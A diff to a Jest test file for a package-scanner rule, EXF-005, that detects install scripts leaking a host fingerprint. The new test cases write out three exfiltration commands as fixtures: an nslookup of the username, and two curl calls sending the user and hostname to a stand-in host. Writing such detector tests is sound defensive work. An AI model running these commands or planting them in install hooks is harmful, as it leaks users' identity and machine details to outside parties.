@@ -1,5 +1,5 @@
 import { describe, expect, it } from '@jest/globals';
-import { hitsOf, js } from '../testing/hits-of.ts';
+import { hitsOf, js, manifest } from '../testing/hits-of.ts';
 
 describe('EXF-005 a fingerprint of the host leaves the machine', () => {
   it.each([
@@ -40,5 +40,18 @@ describe('EXF-005 a fingerprint of the host leaves the machine', () => {
     ],
   ])('passes %s', (_name, source) => {
     expect(hitsOf('EXF-005', js(source))).toEqual([]);
+  });
+
+  it.each([
+    ['nslookup $(whoami).a.example.invalid'],
+    ['curl "https://a.example.invalid/?u=$USER&h=`hostname`"'],
+    ['hostname | curl -d @- https://a.example.invalid'],
+  ])('finds it in an install script: %s', (install) => {
+    expect(hitsOf('EXF-005', manifest({ scripts: { install } }))).toEqual(['high package.json']);
+  });
+
+  it('passes a download for the system at hand', () => {
+    const install = 'curl -o tool https://a.example.invalid/tool-$(uname -s)';
+    expect(hitsOf('EXF-005', manifest({ scripts: { install } }))).toEqual([]);
   });
 });
